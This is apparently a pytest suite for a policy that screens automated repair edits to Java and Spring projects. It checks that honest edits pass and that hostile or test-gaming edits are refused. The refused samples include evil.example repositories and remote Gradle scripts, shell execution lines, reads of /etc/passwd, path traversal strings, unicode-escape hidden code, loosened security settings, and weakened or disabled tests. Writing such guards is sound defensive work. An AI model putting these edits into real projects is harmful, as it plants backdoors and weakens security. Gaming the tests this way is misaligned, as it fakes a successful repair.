"""What a model may not do: every rule refuses what it is for, and lets an honest edit pass."""

from collections.abc import Mapping
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.gates.methods import is_test_path
from pipeline.repair.models import Edit, Proposal
from pipeline.repair.policy import RULES, refuse, refuse_paths
from pipeline.sources.project import Change, Project
from shared.models import Target

APP = "src/main/java/a/App.java"
TEST = "src/test/java/a/AppTest.java"
SECURITY = "src/main/java/a/SecurityConfig.java"
SETTINGS = "src/main/resources/application.properties"
YAML = "src/main/resources/application.yml"

Files = Mapping[str, str | bytes]


def project(files: Files, root: Path = Path("nowhere")) -> Project:
    contents = {path: text.encode() if isinstance(text, str) else text for path, text in files.items()}
    return Project(root, tuple(sorted(files)), dict[str, bytes | None](contents))


def refused(before: Files, after: Mapping[str, str | bytes | None]) -> dict[str, str]:
    """Rule -> reason, for a proposal that makes `after` of `before`."""
    changes = [Change(p, t.encode() if isinstance(t, str) else t, "x") for p, t in after.items()]
    return {r.rule: r.reason for r in refuse(project(before), changes, Target())}


def edited(path: str, before: str, find: str, new: str, **others: str) -> dict[str, str]:
    assert before.count(find) == 1
    return refused({path: before, **others}, {path: before.replace(find, new)})


def edit(path: str, kind: str = "replace") -> Edit:
    return Edit.model_validate({"kind": kind, "path": path, "find": "a", "replace": "b"})


def path_refused(path: str, kind: str = "replace", files: Files | None = None, root: Path = Path("nowhere")) -> bool:
    found = refuse_paths(project({} if files is None else files, root), Proposal(cause="c", edits=(edit(path, kind),)))
    return bool(found)


@pytest.mark.parametrize(
    "path",
    [
        APP,
        TEST,
        "pom.xml",
        "shop-web/pom.xml",
        "shop-web/src/main/java/a/B.java",
        "build.gradle",
        "app/build.gradle.kts",
        "settings.gradle",
        "gradle/libs.versions.toml",
        SETTINGS,
        "src/main/resources/META-INF/spring/org.springframework.boot.autoconfigure.AutoConfiguration.imports",
        "src/main/resources/META-INF/services/jakarta.servlet.ServletContainerInitializer",
        "src/main/webapp/WEB-INF/web.xml",
    ],
)
def test_sources_resources_and_build_files_may_change(path: str) -> None:
    assert not path_refused(path)


@pytest.mark.parametrize(
    "path",
    [
        *("", ".", "/etc/passwd", "../pom.xml", "src/main/java/../../../x.java", "src//main/java/A.java", "./pom.xml"),
        *("src\\main\\java\\A.java", "C:/src/main/java/A.java", "src/main/java/A.java\n", "src/main/java/A\0.java"),
        *(".github/workflows/ci.yml", ".mvn/extensions.xml", ".mvn/maven.config", "src/main/java/.hidden/A.java"),
        *("mvnw", "mvnw.cmd", "gradlew", "gradle/wrapper/gradle-wrapper.properties", "Dockerfile", "Jenkinsfile"),
        *("src/main/kotlin/A.kt", "src/test/groovy/ASpec.groovy", "src/test/resources/expected.json"),
        *("docker-compose.yml", "azure-pipelines.yml", "README.md", "scripts/deploy.sh", "src/main/resources/run.sh"),
        *("src/main/resources/lib.jar", "src/main/resources/db/migration/V2__x.sql", "target/classes/A.java"),
        *("src/test/resources/junit-platform.properties", "~/x/src/main/java/A.java", "src/main/java/con.java"),
        "src/test/resources/META-INF/services/org.junit.platform.launcher.LauncherSessionListener",
        "SRC/main/java/A.java",
        "src/main/resources/Db/Migration/V2__x.sql",
    ],
)
def test_all_other_paths_are_refused(path: str) -> None:
    assert path_refused(path)


def test_a_link_on_the_way_is_refused(tmp_path: Path) -> None:
    (tmp_path / "src/main/java").mkdir(parents=True)
    (tmp_path / "src/main/java/out").symlink_to(tmp_path.parent)
    (tmp_path / "src/main/java/B.java").symlink_to("/etc/hostname")
    assert path_refused("src/main/java/out/A.java", "create", root=tmp_path)
    assert path_refused("src/main/java/B.java", "create", root=tmp_path)
    assert not path_refused("src/main/java/in/A.java", "create", root=tmp_path)


def test_a_file_is_no_directory_and_case_makes_no_other_file() -> None:
    assert path_refused(f"{APP}/src/main/java/B.java", "create", {APP: ""})
    assert path_refused("src/main/java/a/app.java", "create", {APP: ""})
    assert not path_refused("src/main/java/a/App2.java", "create", {APP: ""})


def test_build_files_are_neither_made_nor_deleted_and_tests_not_deleted() -> None:
    assert path_refused("other/pom.xml", "create")
    assert path_refused("pom.xml", "delete")
    assert path_refused(TEST, "delete", {TEST: ""})
    assert not path_refused(APP, "delete", {APP: ""})


@given(st.lists(st.sampled_from(["..", ".", "", "src", "main", "java", "a", "A.java", "pom.xml", "~", "con", " "])))
def test_no_made_up_path_leads_out(segments: list[str]) -> None:
    path = "/".join(segments)
    if not path_refused(path, "create", root=Path("/srv/tree")):
        assert Path("/srv/tree", path).resolve().is_relative_to("/srv/tree")
        assert "src/" in path or path.endswith("pom.xml")


@given(st.text(max_size=40))
def test_any_text_is_either_a_plain_path_or_refused(text: str) -> None:
    for path in (text, f"src/main/java/{text}", f"{text}/src/main/java/A.java"):
        if not path_refused(path):
            assert not path.startswith(("/", "."))
            assert ".." not in path.split("/")
            assert path.isprintable()


def java(body: str, imports: str = "") -> str:
    return f"package a;\n{imports}\nclass App {{\n{body}\n}}\n"


def test_an_honest_edit_passes_every_rule() -> None:
    before = java("  int size() { List<String> all = load(); return all.size(); }", "import javax.servlet.Filter;\n")
    after = before.replace("javax.servlet", "jakarta.servlet")
    assert refused({APP: before}, {APP: after}) == {}


def test_size() -> None:
    assert "size" in refused({APP: java("")}, {APP: java("int a;\n" * 700)})
    assert "size" in refused({}, {f"src/main/java/a/A{n}.java": f"class A{n} {{}}" for n in range(20)})
    assert "size" in refused({APP: java("")}, {APP: java("/* " + "x" * 500_000 + " */")})
    assert refused({APP: java("")}, {APP: java("int a;\n" * 100)}) == {}


@pytest.mark.parametrize("added", ["\0", "\u202e", "\u200b"])
def test_encoding_of_what_nobody_sees(added: str) -> None:
    assert "encoding" in refused({APP: java("// x")}, {APP: java(f"// x{added}")})


def test_encoding_of_bytes_that_are_no_utf_8() -> None:
    latin = java("// caf\xe9").encode("latin-1")
    assert "encoding" in refused({APP: java("// caf")}, {APP: latin})
    assert "encoding" in refused({APP: latin}, {APP: java("// caf\xe9")})
    assert refused({APP: latin}, {APP: latin.replace(b"class App", b"public class App")}) == {}


def test_deletion() -> None:
    assert "deletion" in refused({SETTINGS: "a=1\n"}, {SETTINGS: None})
    assert (
        refused(
            {"src/main/resources/META-INF/spring.factories": "a=b\n"},
            {"src/main/resources/META-INF/spring.factories": None},
        )
        == {}
    )


def test_syntax() -> None:
    assert "syntax" in refused({APP: java("")}, {APP: java("int (;")})
    assert "syntax" in refused({"pom.xml": "<project/>"}, {"pom.xml": "<project>"})
    assert refused({APP: java("int (;")}, {APP: java("int (;\n//")}) == {}


TESTS = """package a;
class AppTest {
  @Test void adds() {
    int sum = add(1, 2);
    assertEquals(3, sum);
    assertThat(name()).isEqualTo("x");
  }
  @Test void answers() throws Exception { mvc.perform(get("/a")).andExpect(status().isOk()); }
}
"""


@pytest.mark.parametrize(
    ("find", "new", "rule"),
    [
        ("@Test void adds()", "void adds()", "tests-kept"),
        ("@Test void adds()", "@Disabled @Test void adds()", "tests-kept"),
        ("@Test void adds()", '@EnabledIfSystemProperty(named = "x", matches = "y") @Test void adds()', "tests-kept"),
        ("@Test void adds()", "@Test void addsNot()", "tests-kept"),
        ("class AppTest", "@Ignore class AppTest", "tests-kept"),
        ("    assertEquals(3, sum);\n", "", "assertions-kept"),
        ("assertEquals(3, sum)", "assertTrue(true)", "assertions-kept"),
        ("int sum = add(1, 2);", "int sum = add(1, 2); if (sum > 3) return;", "assertions-kept"),
        ("int sum = add(1, 2);", "assumeTrue(add(1, 2) == 3); int sum = 3;", "assertions-kept"),
        ("assertEquals(3, sum);", "try { assertEquals(3, sum); } catch (Throwable t) { }", "assertions-kept"),
        ("assertEquals(3, sum)", "assertEquals(4, sum)", "expectations-kept"),
        ('isEqualTo("x")', "isNotNull()", "expectations-kept"),
        ("status().isOk()", "status().isNotFound()", "expectations-kept"),
        (
            "@Test void adds()",
            "@BeforeEach void off() { Assumptions.assumeTrue(false); }\n  @Test void adds()",
            "tests-run",
        ),
        ("class AppTest", '@Tag("slow") class AppTest', "tests-run"),
        ("int sum = add(1, 2);\n    assertEquals(3, sum);", "assertEquals(3, 3);", "tests-ask"),
        ("assertEquals(3, sum)", "assertEquals(sum, sum)", "tests-ask"),
        ("@Test void adds()", "void assertEquals(int a, int b) { log(a); }\n  @Test void adds()", "no-stand-ins"),
    ],
)
def test_weakened_tests(find: str, new: str, rule: str) -> None:
    assert rule in edited(TEST, TESTS, find, new)


@pytest.mark.parametrize(
    ("find", "new"),
    [
        ("int sum = add(1, 2);", "int sum = calculator.add(1, 2);"),
        ("assertEquals(3, sum)", "assertEquals(3, (int) sum)"),
        ("package a;", "package a;\nimport org.junit.jupiter.api.Test;"),
        (
            'assertThat(name()).isEqualTo("x");',
            'assertThat(name()).isEqualTo("x");\n    assertThat(name()).hasSize(1);',
        ),
    ],
)
def test_tests_may_be_adapted_to_an_api(find: str, new: str) -> None:
    assert edited(TEST, TESTS, find, new) == {}


def test_a_new_extension_that_disables_tests_is_refused() -> None:
    code = "package a; class Off implements ExecutionCondition { }"
    assert "tests-run" in refused({}, {"src/test/java/a/Off.java": code})
    assert (
        refused({APP: CODE}, {"src/test/java/a/Clock.java": "package a; class Clock { int now() { return 1; } }"}) == {}
    )


@pytest.mark.parametrize(
    "path",
    [
        "src/test/java/org/junit/jupiter/api/Assertions.java",
        "src/test/java/org/junit/jupiter/api/Other.java",
        "src/main/java/com/shop/core/Assertions.java",
        "src/test/java/Default.java",
    ],
)
def test_nothing_stands_in_for_a_library(path: str) -> None:
    name = path.rpartition("/")[2].removesuffix(".java")
    package = path.partition("/java/")[2].rpartition("/")[0].replace("/", ".")
    code = f"package {package}; public class {name} {{ public static int x; }}"
    core = {"src/main/java/com/shop/core/App.java": "package com.shop.core; class App { }"}
    assert "no-stand-ins" in refused(core, {path: code if package else code.partition("; ")[2]})


def test_a_directory_does_not_hide_a_package() -> None:
    code = "package org.junit.jupiter.api; public class Helper { }"
    assert "no-stand-ins" in refused({APP: CODE}, {"src/test/java/a/Helper.java": code})


def test_new_types_may_be_made_beside_the_projects_own() -> None:
    core = {"src/main/java/com/shop/core/App.java": "package com.shop.core; class App { }"}
    assert refused(core, {"src/main/java/com/shop/web/Web.java": "package com.shop.web; class Web { }"}) == {}
    assert refused(core, {"src/main/java/com/shop/core/B.java": "package com.shop.core; class B { }"}) == {}


POM = """<project>
  <parent>
    <groupId>org.springframework.boot</groupId>
    <artifactId>spring-boot-starter-parent</artifactId>
    <version>3.5.16</version>
  </parent>
  <modules><module>core</module></modules>
  <properties><java.version>17</java.version></properties>
  <dependencies>
    <dependency><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>1.0</version></dependency>
  </dependencies>
  <build><plugins>
    <plugin><groupId>org.apache.maven.plugins</groupId><artifactId>maven-surefire-plugin</artifactId>
      <configuration><argLine>-Xmx1g</argLine></configuration>
    </plugin>
    <plugin><artifactId>maven-antrun-plugin</artifactId></plugin>
  </plugins></build>
</project>
"""
ACME = next(line for line in POM.splitlines(keepends=True) if "acme-core" in line)
END = "  </dependencies>"
PLUGINS_END = "  </plugins></build>"


def dependency(ga: str, more: str = "") -> str:
    group, artifact = ga.split(":")
    return f"<dependency><groupId>{group}</groupId><artifactId>{artifact}</artifactId>{more}</dependency>\n{END}"


@pytest.mark.parametrize(
    ("find", "new", "rule"),
    [
        ("<properties>", "<properties><skipTests>true</skipTests>", "build-honest"),
        ("<properties>", "<properties><maven.test.failure.ignore>true</maven.test.failure.ignore>", "build-honest"),
        ("<argLine>", "<testFailureIgnore>true</testFailureIgnore><argLine>", "build-honest"),
        ("<argLine>", "<excludes><exclude>**/AppTest.java</exclude></excludes><argLine>", "build-honest"),
        ("<module>core</module>", "", "build-honest"),
        ("    <plugin><artifactId>maven-antrun-plugin</artifactId></plugin>\n", "", "build-honest"),
        (
            END,
            dependency(
                "org.acme:acme-x",
                "<exclusions><exclusion><groupId>org.junit.vintage</groupId>"
                "<artifactId>junit-vintage-engine</artifactId></exclusion></exclusions>",
            ),
            "build-honest",
        ),
        ("<version>1.0</version>", "<version>0.9</version>", "versions-kept"),
        (
            ACME,
            "",
            "versions-kept",
        ),
        (
            PLUGINS_END,
            f"<plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId></plugin>{PLUGINS_END}",
            "plugins",
        ),
        (
            "<build>",
            "<repositories><repository><id>x</id><url>https://repo.evil.example</url></repository></repositories><build>",
            "repositories",
        ),
        (
            "<build>",
            "<pluginRepositories><pluginRepository><url>https://evil.example</url></pluginRepository></pluginRepositories><build>",
            "repositories",
        ),
        (
            "<build>",
            "<build><extensions><extension><artifactId>wagon</artifactId></extension></extensions>",
            "repositories",
        ),
        (END, dependency("com.evil:helper"), "dependencies"),
        (END, dependency("${g}:helper"), "dependencies"),
        ("<version>3.5.16</version>", "<version>2.7.18</version>", "target"),
        ("<java.version>17</java.version>", "<java.version>8</java.version>", "target"),
        (
            PLUGINS_END,
            f"<plugin><artifactId>maven-compiler-plugin</artifactId><configuration><release>8</release></configuration></plugin>{PLUGINS_END}",
            "target",
        ),
        ("-Xmx1g", "-javaagent:evil.jar", "commands"),
        ("-Xmx1g", "-XX:OnError=sh", "commands"),
        ("<argLine>", "<jvm>/tmp/java</jvm><argLine>", "commands"),
        (
            "maven-antrun-plugin</artifactId>",
            "maven-antrun-plugin</artifactId><executions><execution><goals><goal>run</goal></goals></execution></executions>",
            "commands",
        ),
        (END, dependency("org.acme:acme-x", "<scope>system</scope><systemPath>/tmp/x.jar</systemPath>"), "commands"),
    ],
)
def test_poms(find: str, new: str, rule: str) -> None:
    assert rule in edited("pom.xml", POM, find, new)


@pytest.mark.parametrize(
    ("find", "new"),
    [
        (END, dependency("jakarta.xml.bind:jakarta.xml.bind-api")),
        (END, dependency("org.springframework.boot:spring-boot-starter-validation")),
        (END, dependency("org.acme:acme-web", "<version>1.0</version>")),
        ("-Xmx1g", "-Xmx1g --add-opens java.base/java.lang=ALL-UNNAMED"),
        ("<version>1.0</version>", "<version>2.0</version>"),
        (
            "<configuration><argLine>",
            "<configuration><useModulePath>false</useModulePath><argLine>",
        ),
        (
            END,
            dependency(
                "org.acme:acme-x",
                "<exclusions><exclusion><groupId>commons-logging</groupId>"
                "<artifactId>commons-logging</artifactId></exclusion></exclusions>",
            ),
        ),
    ],
)
def test_poms_may_be_repaired(find: str, new: str) -> None:
    assert edited("pom.xml", POM, find, new) == {}


GRADLE = """plugins { id 'java'; id 'org.springframework.boot' version '3.5.16' }
sourceCompatibility = '17'
repositories { mavenCentral() }
dependencies {
  implementation 'org.acme:acme-core:1.0'
}
test { useJUnitPlatform() }
"""


@pytest.mark.parametrize(
    ("find", "new", "rule"),
    [
        ("useJUnitPlatform()", "useJUnitPlatform()\n  ignoreFailures = true", "build-honest"),
        ("useJUnitPlatform()", "useJUnitPlatform()\n  exclude '**/AppTest*'", "build-honest"),
        ("id 'java';", "id 'java'; id 'com.evil.plugin';", "plugins"),
        ("mavenCentral()", "maven { url 'https://evil.example' }", "repositories"),
        ("mavenCentral()", "mavenCentral()\n apply from: 'https://evil.example/x.gradle'", "repositories"),
        ("implementation 'org.acme", "implementation files('x.jar')\n  implementation 'org.acme", "repositories"),
        ("implementation 'org.acme", "implementation 'com.evil:x:1'\n  implementation 'org.acme", "dependencies"),
        ("'3.5.16'", "'2.7.18'", "target"),
        ("sourceCompatibility = '17'", "sourceCompatibility = '1.8'", "target"),
        ("test {", "'id'.execute()\ntest {", "commands"),
        ("test {", "exec { commandLine 'sh' }\ntest {", "commands"),
    ],
)
def test_gradle(find: str, new: str, rule: str) -> None:
    assert rule in edited("build.gradle", GRADLE, find, new)


@pytest.mark.parametrize(
    ("find", "new"),
    [
        (
            "'org.acme:acme-core:1.0'",
            "'org.acme:acme-core:1.0'\n  implementation 'jakarta.annotation:jakarta.annotation-api'",
        ),
        ("useJUnitPlatform()", "useJUnitPlatform()\n  jvmArgs '--add-opens', 'java.base/java.lang=ALL-UNNAMED'"),
    ],
)
def test_gradle_may_be_repaired(find: str, new: str) -> None:
    assert edited("build.gradle", GRADLE, find, new) == {}


CODE = java("  int size() { List<String> all = load(); return all.size(); }")


@pytest.mark.parametrize(
    "added",
    [
        'Runtime.getRuntime().exec("sh");',
        'new ProcessBuilder("sh").start();',
        'Class.forName("x.Y");',
        "defineClass(null, code, 0, 1);",
        "new URLClassLoader(urls);",
        'System.getenv("PATH");',
        "System.exit(0);",
        'Files.readString(Paths.get("/etc/passwd"));',
        'new Socket("h", 1);',
        "url.openConnection();",
        "HttpClient.newHttpClient();",
        'new InitialContext().lookup("x");',
        "// \\u000a Runtime.getRuntime().halt(1);\n",
    ],
)
def test_capabilities(added: str) -> None:
    assert "capabilities" in edited(APP, CODE, "return all", f"{added} return all")


def test_a_capability_that_was_there_stays_repairable() -> None:
    before = java("  Response get() throws Exception { HttpClient c = make(); c.run(); return c.send(url); }")
    assert edited(APP, before, "make()", "HttpClient.newBuilder().build()") == {}
    talks = java("  int size() { return 1; } // Runtime.getRuntime() is not used")
    assert edited(APP, talks, "// Runtime.getRuntime() is not used", "// never Runtime.getRuntime()") == {}


def test_hosts() -> None:
    before = java('  String url() { String base = "https://shop.example/a"; return base + path(); }')
    assert "hosts" in edited(APP, before, "shop.example", "evil.example")
    assert edited(APP, before, "shop.example/a", "shop.example/b") == {}


def test_hidden_code() -> None:
    assert "hidden-code" in edited(APP, CODE, "load()", 'load("\\u0022 + evil() + \\u0022")')
    assert "hidden-code" in edited(APP, CODE, "return all", "// \\u000a evil();\n return all")
    assert "syntax" in edited(APP, CODE, "load()", "\\u006coad()")
    assert edited(APP, CODE, "load()", 'load("\\u00e9")') == {}


@pytest.mark.parametrize(
    "body",
    [
        "",
        "return 0;",
        "throw new UnsupportedOperationException();",
        "List<String> all = load(); if (all == null) return null; return 1;",
    ],
)
def test_emptied_bodies(body: str) -> None:
    assert "code-kept" in refused({APP: CODE}, {APP: java(f"  int size() {{ {body} }}")})


def test_a_short_method_still_works() -> None:
    short = java("  int size() { return load().size(); }")
    assert "code-kept" in edited(APP, short, "load().size()", "0")
    assert edited(APP, short, "load().size()", "load().length()") == {}


def test_a_failure_may_not_be_swallowed() -> None:
    throws = java("  int size() { int n = 0; n = load().size(); return n; }")
    caught = "try { n = load().size(); } catch (Exception e) { /* never */ }"
    assert "code-kept" in edited(APP, throws, "n = load().size();", caught)
    told = caught.replace("/* never */", "throw new IllegalStateException(e);")
    assert edited(APP, throws, "n = load().size();", told) == {}


def test_a_class_may_move_but_not_go() -> None:
    assert "code-kept" in refused({APP: CODE}, {APP: None})
    assert refused({APP: CODE}, {APP: None, "src/main/java/b/App.java": CODE}) == {}


def test_endpoints() -> None:
    before = 'package a; @RestController class App { @GetMapping("/a") String a() { log(); return name(); } }'
    assert "endpoints-kept" in edited(APP, before, '@GetMapping("/a") ', "")
    assert edited(APP, before, '@GetMapping("/a")', '@RequestMapping(path = "/a", method = RequestMethod.GET)') == {}


CHAIN = """package a;
class SecurityConfig {
  @Bean SecurityFilterChain chain(HttpSecurity http) throws Exception {
    http.authorizeRequests().antMatchers("/admin").hasRole("ADMIN").anyRequest().authenticated();
    return http.build();
  }
}
"""


@pytest.mark.parametrize(
    ("find", "new"),
    [
        ('hasRole("ADMIN")', "permitAll()"),
        ('.antMatchers("/admin").hasRole("ADMIN")', ""),
        ("return http.build();", "http.csrf(c -> c.disable()); return http.build();"),
        ("http.authorizeRequests()", 'http.authorizeRequests().antMatchers("/**").permitAll()'),
        ("return http", "new NoOpPasswordEncoder(); return http"),
        (
            "class SecurityConfig",
            "@EnableAutoConfiguration(exclude = SecurityAutoConfiguration.class) class SecurityConfig",
        ),
    ],
)
def test_loosened_security(find: str, new: str) -> None:
    assert "security" in edited(SECURITY, CHAIN, find, new)


def test_security_in_its_new_spelling_is_the_same() -> None:
    after = CHAIN.replace(
        'http.authorizeRequests().antMatchers("/admin").hasRole("ADMIN").anyRequest().authenticated();',
        'http.authorizeHttpRequests(r -> r.requestMatchers("/admin").hasRole("ADMIN").anyRequest().authenticated());',
    )
    assert refused({SECURITY: CHAIN}, {SECURITY: after}) == {}


@pytest.mark.parametrize(
    ("path", "new"),
    [
        (SETTINGS, "management.endpoints.web.exposure.include=*\n"),
        (SETTINGS, "spring.autoconfigure.exclude=org.springframework.boot.autoconfigure.security.servlet.X\n"),
        (SETTINGS, "spring.jpa.hibernate.ddl-auto=create-drop\n"),
        (YAML, "spring:\n  flyway:\n    enabled: false\n"),
        (YAML, "server:\n  ssl:\n    enabled: false\n"),
    ],
)
def test_loosened_security_settings(path: str, new: str) -> None:
    assert "security" in refused({path: "# settings\n"}, {path: f"# settings\n{new}"})
    assert refused({path: "a: b\n"}, {path: "a: c\n"}) == {}


@given(st.data())
def test_no_edit_makes_the_policy_stumble(data: st.DataObject) -> None:
    files = {"pom.xml": POM, "build.gradle": GRADLE, TEST: TESTS, SECURITY: CHAIN, APP: CODE, YAML: "a:\n  b: c\n"}
    path = data.draw(st.sampled_from(sorted(files)))
    at = data.draw(st.integers(0, len(files[path])))
    new = data.draw(
        st.one_of(st.text(max_size=20), st.sampled_from(["<a>", "{", "}", '"', "/*", "\\u0022", "]]>", "@Test "]))
    )
    cut = data.draw(st.integers(0, 40))
    refused(files, {path: (files[path][:at] + new + files[path][at + cut :]).encode("utf-8", "replace")})


def test_every_rule_is_asked_here() -> None:
    here = Path(__file__).read_text()
    assert [rule for rule in RULES if f'"{rule}"' not in here] == []
    assert is_test_path(TEST)
